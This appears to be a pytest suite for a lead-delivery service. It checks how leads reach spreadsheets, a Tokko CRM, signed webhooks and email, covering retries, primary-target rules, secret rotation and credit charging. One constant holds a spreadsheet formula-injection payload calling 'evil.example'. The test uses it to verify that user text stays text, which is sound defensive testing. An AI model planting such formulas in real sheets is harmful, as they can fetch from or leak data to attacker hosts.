"""Each kind of target takes a lead once, as it is, and only the primary one decides."""

from collections.abc import Awaitable, Callable
from typing import Any

import pytest
from standardwebhooks.webhooks import Webhook, WebhookVerificationError

from models.records import delivery_targets
from models.tables import AuditEntry, DeliveryTarget
from tests.connected import (
    call,
    cells,
    connect,
    connect_hook,
    connect_sheet,
    connect_tokko,
    endpoint,
    integration,
    letters_to,
    posts,
    reaches,
    ready,
    start,
    start_ready,
    states,
    switch,
    tokko_key,
)
from tests.factories import make_delivery, unique
from tests.product import Product, new_person

Opening = Callable[..., Awaitable[Product]]
BONUS, CHARGE = "CREDIT_BONUS", "CREDIT_CONSUMPTION"
FORMULA = '=IMPORTXML("http://evil.example";"//a")'
CHARGED_ONCE = [(BONUS, 5), (CHARGE, -1)]


@pytest.fixture
async def bare(opening: Opening) -> Product:
    """A tenant with five credits and no target yet."""
    return await opening(targets=())


async def _contacts(product: Product, who: str) -> list[dict[str, Any]]:
    answer = await product.house.sandbox.get("/tokko/_contacts", params={"phone": who})
    return list(answer.json()["contacts"])


async def _delivered(product: Product, who: str) -> None:
    """Until every target was served, or given up."""
    await product.delivers(who, "DELIVERED")
    await (await product.delivery_workflow(who)).result()


async def test_a_sheet_gets_the_tenants_own_columns_and_what_people_write_stays_text(
    bare: Product,
) -> None:
    columns = [
        {"field": "phone", "title": "Celular"},
        {"field": "delivery_id", "title": "Ref"},
        {"field": "name", "title": "Cliente"},
    ]
    sheet = await connect_sheet(bare, columns=columns)
    who = await ready(bare, full_name=FORMULA)
    await _delivered(bare, who)
    delivery = await bare.delivery(who)
    assert delivery is not None
    header, row = await cells(bare, sheet)
    assert header == ["Celular", "Ref", "Cliente"]
    assert row == [f"+{who}", str(delivery.id), FORMULA]


async def test_a_row_whose_answer_was_lost_is_found_by_its_key_wherever_the_column_is(
    bare: Product,
) -> None:
    columns = [{"field": "zones", "title": "Zona"}, {"field": "delivery_id", "title": "Ref"}]
    sheet = await connect_sheet(bare, columns=columns)
    await _delivered(bare, await ready(bare))
    await bare.switch("google.append", "fail_after", times=1)
    await _delivered(bare, await ready(bare))
    _, *rows = await cells(bare, sheet)
    assert [row[0] for row in rows] == ["Palermo", "Palermo"]
    assert len({row[1] for row in rows}) == 2


async def test_tokko_gets_the_contact_once_though_the_answer_was_lost(bare: Product) -> None:
    await connect_tokko(bare)
    await bare.switch("tokko.contacts", "fail_after", times=1, match={"method": "POST"})
    who = await ready(bare)
    await _delivered(bare, who)
    (contact,) = await _contacts(bare, who)
    assert (contact["name"], contact["email"]) == ("Ana Gómez", "ana@example.com")
    assert len(contact["inquiries"]) == 1
    assert await bare.ledger() == CHARGED_ONCE


async def test_a_contact_that_another_portal_sent_the_agency_is_not_taken_for_ours(
    bare: Product,
) -> None:
    key, who = await tokko_key(bare), new_person()
    await connect(bare, kind="TOKKO", api_key=key)
    theirs = {"name": "Ana", "phone": who, "tags": ["Otro portal"]}
    address = f"/tokko/api/v1/webcontact/?key={key}"
    (await bare.house.sandbox.post(address, json=theirs)).raise_for_status()
    await bare.switch("tokko.contacts", "fail_before", times=1, match={"method": "POST"})
    await _delivered(bare, await ready(bare, who))
    (contact,) = await _contacts(bare, who)
    assert len(contact["inquiries"]) == 2


async def test_a_crm_that_answers_200_with_an_error_inside_did_not_take_the_lead(
    bare: Product,
) -> None:
    await connect_tokko(bare)
    await bare.switch("tokko.contacts", "fail_before", status=200, code=100)
    who = await ready(bare)
    await bare.delivers(who, "DEAD_LETTER")
    (row,) = await bare.all(DeliveryTarget)
    assert (row.state, row.error_code, row.attempts) == ("FAILED", "100", 1)
    assert row.error is not None
    assert "clave de API" in row.error
    assert await bare.available() == 5


async def test_after_a_rotation_the_old_secret_and_the_new_one_both_verify(
    bare: Product,
) -> None:
    hook = await connect_hook(bare)
    first = hook["signing_secret"]
    second = (await call(bare, "POST", f"{hook['id']}/secret"))["signing_secret"]
    who = await ready(bare)
    await _delivered(bare, who)
    (request,) = await posts(bare, hook)
    for secret in (first, second):
        body = Webhook(secret).verify(request["body"], request["headers"])
        assert body["data"]["contact"]["phone"] == f"+{who}"
    third = (await call(bare, "POST", f"{hook['id']}/secret"))["signing_secret"]
    assert len({first, second, third}) == 3
    await _delivered(bare, await ready(bare))
    request = (await posts(bare, hook))[1]
    Webhook(second).verify(request["body"], request["headers"])
    with pytest.raises(WebhookVerificationError):
        Webhook(first).verify(request["body"], request["headers"])


async def test_an_address_gets_the_leads_card_once_though_the_answer_was_lost(
    bare: Product,
) -> None:
    address = f"{unique('sales')}@example.com"
    await connect(bare, kind="EMAIL", to=address)
    await bare.switch("resend.emails", "fail_after", times=1, match={"to": address})
    who = await ready(bare)
    await _delivered(bare, who)
    (letter,) = await letters_to(bare, address)
    assert "Ana Gómez" in letter["subject"]
    assert f"+{who}" in letter["text"]
    assert await bare.ledger() == CHARGED_ONCE


async def test_the_others_get_nothing_of_a_lead_that_the_primary_target_refused(
    bare: Product,
) -> None:
    other, primary = await connect_hook(bare), await connect_hook(bare, primary=True)
    await bare.switch(endpoint(primary), "fail_before", status=400)
    ((delivery, _),) = await start_ready(bare)
    await reaches(bare, delivery, "DEAD_LETTER")
    assert await posts(bare, other) == []
    assert await bare.ledger() == [(BONUS, 5)]


async def test_another_target_that_refuses_leaves_the_lead_delivered_and_says_what_to_do(
    bare: Product,
) -> None:
    await connect_tokko(bare, primary=True)
    hook = await connect_hook(bare)
    await bare.switch(endpoint(hook), "fail_before", status=400)
    who = await ready(bare)
    await _delivered(bare, who)
    await bare.becomes(who, "SENT_TO_DEVELOPER")
    delivery = await bare.delivery(who)
    assert delivery is not None
    assert await states(bare, delivery) == {"TOKKO": "SENT", "WEBHOOK": "FAILED"}
    (failed,) = await bare.all(DeliveryTarget, DeliveryTarget.state == "FAILED")
    assert failed.error is not None
    assert "Tu servidor no aceptó" in failed.error
    assert await bare.ledger() == CHARGED_ONCE


async def test_where_the_primary_target_is_switched_off_the_next_one_decides(
    bare: Product,
) -> None:
    primary, other = await connect_hook(bare, primary=True), await connect_hook(bare)
    await bare.switch(endpoint(primary), "fail_before", status=503)
    ((delivery, handle),) = await start_ready(bare)
    await reaches(bare, delivery, "SENDING")
    assert (await switch(bare, primary, on=False))["status"] == "OFF"
    await handle.result()
    assert len(await posts(bare, other)) == 1
    assert await bare.ledger() == CHARGED_ONCE
    (row,) = await bare.all(DeliveryTarget, DeliveryTarget.state == "SENT")
    assert (str(row.integration_id), row.is_primary) == (other["id"], True)


async def test_a_lead_that_the_primary_target_took_is_charged_though_it_is_off_by_then(
    bare: Product,
) -> None:
    primary, other = await connect_hook(bare, primary=True), await connect_hook(bare)
    async with bare.house.db.tenant(bare.id) as session:
        delivery = await make_delivery(session, bare.tenant)
        for row in await delivery_targets.unserved(session, delivery):
            # As a worker leaves it that dies between the target's yes and the charge.
            row.state = "SENT" if row.is_primary else row.state
    await switch(bare, primary, on=False)
    await switch(bare, other, on=False)
    await (await start(bare, delivery.id)).result()
    await reaches(bare, delivery, "DELIVERED")
    assert await posts(bare, primary) == []
    assert await bare.ledger() == CHARGED_ONCE


async def test_a_target_switched_on_again_starts_without_its_record_of_failures(
    bare: Product,
) -> None:
    hook = await connect_hook(bare)
    await bare.switch(endpoint(hook), "fail_before", status=400)
    ((delivery, _),) = await start_ready(bare)
    await reaches(bare, delivery, "DEAD_LETTER")
    assert (await integration(bare, hook)).failures == 1
    await switch(bare, hook, on=False)
    again = await switch(bare, hook, on=True)
    assert (again["status"], again["error"], again["failing_since"]) == ("ACTIVE", None, None)
    assert (await integration(bare, hook)).failures == 0
    actions = [entry.action for entry in await bare.all(AuditEntry)]
    assert {"target.connected", "target.switched_off", "target.switched_on"} <= set(actions)
